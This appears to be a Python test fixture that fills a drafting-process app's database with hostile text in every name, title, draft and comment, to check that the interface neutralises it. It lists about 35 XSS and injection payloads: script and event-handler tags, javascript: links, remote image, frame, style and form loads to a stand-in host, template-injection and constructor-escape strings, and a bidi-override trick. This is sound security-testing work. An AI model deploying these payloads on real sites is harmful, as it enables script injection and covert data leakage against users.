"""A process in which every name, title, text and comment attacks whoever reads it."""

from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from itertools import cycle
from pathlib import Path

from cast import Clock

from drafting.domain.agreement import Weights
from drafting.domain.comments import Decision
from drafting.domain.documents import Kind
from drafting.domain.drafts import Draft, passages
from drafting.domain.evidence import SourceKind
from drafting.domain.people import HOUSE, Role, Size, Stakeholder
from drafting.domain.ratings import Objecting, Score
from drafting.store.connection import Database
from drafting.ui.visit import new_id
from drafting.workshop import Workshop

# Every element that an attack would make has this class, every address this word.
PLANTED, OUTSIDE = "planted", "OUTSIDE"
RUN = "window.pwned=1;fetch('http://OUTSIDE/ran')"
ATTACKS = (
    f'<script class=planted>{RUN}</script>',
    f'<img class=planted src=x onerror="{RUN}">',
    '<img class=planted src="http://OUTSIDE/img.png">',
    "![a pixel](http://OUTSIDE/markdown.png)",
    "![a pixel][ref]\n\n[ref]: http://OUTSIDE/reference.png",
    f"[a link](javascript:{RUN})",
    f"[a link](<javascript:{RUN}> 'title')",
    f"<javascript:{RUN}>",
    "[a link](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
    f'<a class=planted href="javascript:{RUN}">a link</a>',
    f"<svg class=planted onload=\"{RUN}\"><script>{RUN}</script></svg>",
    '<svg class=planted><image href="http://OUTSIDE/svg.png"/><use href="http://OUTSIDE/u#x"/></svg>',
    '<iframe class=planted src="http://OUTSIDE/frame"></iframe>',
    '<iframe class=planted srcdoc="<script>parent.pwned=1</script>"></iframe>',
    '<object class=planted data="http://OUTSIDE/o"></object><embed src="http://OUTSIDE/e">',
    '<link class=planted rel=stylesheet href="http://OUTSIDE/style.css">',
    "<style class=planted>@import 'http://OUTSIDE/i.css';*{background:url(http://OUTSIDE/bg)}</style>",
    '<div class=planted style="position:fixed;inset:0;z-index:9999;background:url(http://OUTSIDE/o)">',
    '<base class=planted href="http://OUTSIDE/">',
    '<meta class=planted http-equiv=refresh content="0;url=http://OUTSIDE/refresh">',
    f'<form class=planted action="http://OUTSIDE/form"><input autofocus onfocus="{RUN}"></form>',
    f'<details class=planted open ontoggle="{RUN}">x</details>',
    f'<video class=planted src="http://OUTSIDE/v" onerror="{RUN}" poster="http://OUTSIDE/p"></video>',
    f'"><script class=planted>{RUN}</script>',
    f"'\"--></style></script></title></textarea><img class=planted src=x onerror={RUN}>",
    f"&lt;img class=planted src=x onerror=&quot;{RUN}&quot;&gt;",
    f"`<img class=planted src=x onerror={RUN}>`",
    f"$\\href{{javascript:{RUN}}}{{x}}$ $$\\includegraphics{{http://OUTSIDE/tex}}$$",
    ":red[coloured] :material/home: :streamlit: :blue-background[x] :small[x]",
    "' + (window.pwned=1) + '",
    f"datum['x'] || constructor.constructor('{RUN}')()",
    "{\"$schema\": 1, \"mark\": {\"type\": \"image\", \"url\": \"http://OUTSIDE/vega.png\"}}",
    f"{{{{constructor.constructor('{RUN}')()}}}} ${{{RUN}}} <%= 7*7 %>",
    "\u202egnp.exe <plaintext class=planted> \u2066 https://OUTSIDE/auto",
    "[x](http://OUTSIDE/link 'x\" onmouseover=\"window.pwned=1') ~~gone~~ | a | b |\n|-|-|",
)  # fmt: skip
ROLES = (Role.CHAIR, Role.DRAFTER, Role.STEERING, Role.OBSERVER)
SECTORS, EACH = 3, 7


class HostileHouse:
    """Twenty-five people in three sectors, six texts of two drafts, a round closed and one open."""

    def __init__(self, file: Path, outside: str) -> None:
        self.database = Database.open(file)
        self.clock = Clock(datetime.now(UTC) - timedelta(days=30))
        self.workshop = Workshop(self.database, self.clock, new_id)
        self.attacks: Iterator[str] = cycle(one.replace(OUTSIDE, outside) for one in ATTACKS)
        self.texts = [one.replace(OUTSIDE, outside) for one in ATTACKS]
        self.by_role: dict[Role, Stakeholder] = {}
        self.stakeholders: list[Stakeholder] = []
        with self.database.transaction():
            self._people()
            self._plans()
            self._drafts_and_rounds()

    def close(self) -> None:
        """Close the file, so that a server may open it."""
        self.database.close()

    def attack(self, last: str = "") -> str:
        """Return the next attack, told from others by its end."""
        return next(self.attacks) + last

    def _people(self) -> None:
        ends = (datetime.now(UTC) + timedelta(days=60)).date()
        self.workshop.begin_process(HOUSE, self.attack(), ends)
        self.workshop.fix_rule(HOUSE, 0.75, 0.5, 0.5, Weights.SECTORS, self.attack())
        sectors = [self.attack(f" {number}") for number in range(SECTORS)]
        roles = [*ROLES, *[Role.STAKEHOLDER] * SECTORS * EACH]
        for number, role in enumerate(roles):
            person = self.workshop.register(
                HOUSE,
                self.attack(),
                f"person{number}@people.example",
                self.attack(f" {number}"),
                sectors[number % SECTORS],
                [*Size][number % 4],
                role,
            )
            self.by_role.setdefault(role, person)
            if role is Role.STAKEHOLDER:
                self.stakeholders.append(person)

    @property
    def chair(self) -> Stakeholder:
        return self.by_role[Role.CHAIR]

    def _plans(self) -> None:
        today = self.clock().date()
        for days in (10, 60):
            promised = self.workshop.promise(
                self.chair, self.attack(), today + timedelta(days=days)
            )
            self.workshop.move_milestone(
                self.chair, promised.id, today + timedelta(days=days + 5), self.attack()
            )
        for kind in (SourceKind.INTERVIEW, SourceKind.SURVEY):
            heard = self.workshop.add_source(self.chair, kind, self.attack(), today)
            for _ in range(4):
                self.workshop.add_finding(self.chair, heard.id, self.attack(), self.attack())

    def _drafts_and_rounds(self) -> None:
        dilemma = self.workshop.begin_dilemma(self.chair, self.attack(), self.attack()).id
        kinds = [Kind.VISION, Kind.MISSION, Kind.MISSION, Kind.NARRATIVE, Kind.OPTION, Kind.OPTION]
        self.documents = [
            self.workshop.begin_document(
                self.chair, kind, self.attack(), dilemma if kind is Kind.OPTION else None
            ).id
            for kind in kinds
        ]
        for turn in (0, 1):
            drafts = [self._publish(one, turn) for one in self.documents]
            self.clock.advance(days=1)
            asking = self.workshop.open_round(
                self.chair,
                self.attack(),
                [one.id for one in drafts],
                self.clock(),
                self.clock() + timedelta(days=60),
                self.attack(),
            )
            self.clock.advance(hours=1)
            self._answer(drafts)
            self.workshop.extend_round(
                self.chair, asking.id, self.clock() + timedelta(days=90), self.attack()
            )
            if turn == 0:
                self.workshop.close_round(self.chair, asking.id, self.attack())
            self.clock.advance(days=1)
        for one in self.documents:
            self.workshop.save_working_text(
                self.chair, one, "\n\n".join(self.texts[:12]), self.attack()
            )

    def _publish(self, document_id: str, turn: int) -> Draft:
        """Publish a text of attacks, in another order and with other words each time."""
        first = 6 * self.documents.index(document_id)
        words = (self.texts * 2)[first : first + 12][:: -1 if turn else 1]
        text = "\n\n".join(f"# {self.attack()}\n\n- {one} turn {turn}" for one in words)
        return self.workshop.publish(self.chair, document_id, text, self.attack())

    def _answer(self, drafts: list[Draft]) -> None:
        for number, draft in enumerate(drafts):
            among = passages(draft.text)
            # The first stakeholder has not answered yet: the form is to be looked at, too.
            for place, person in enumerate(self.stakeholders[1:], number):
                score = Score(place % 5 + 1)
                passage = among[place % len(among)]
                objecting = Objecting(passage, self.attack(), self.attack())
                self.workshop.rate(person, draft.id, score, objecting if score.objects else None)
            for person in self.stakeholders[number : number + 6]:
                said = self.workshop.comment(person, draft.id, self.attack())
                self.workshop.reply(self.chair, said.id, self.attack())
                self.workshop.dispose(self.chair, said.id, Decision.DECLINED, self.attack())
                self.workshop.comment(person, draft.id, self.attack())
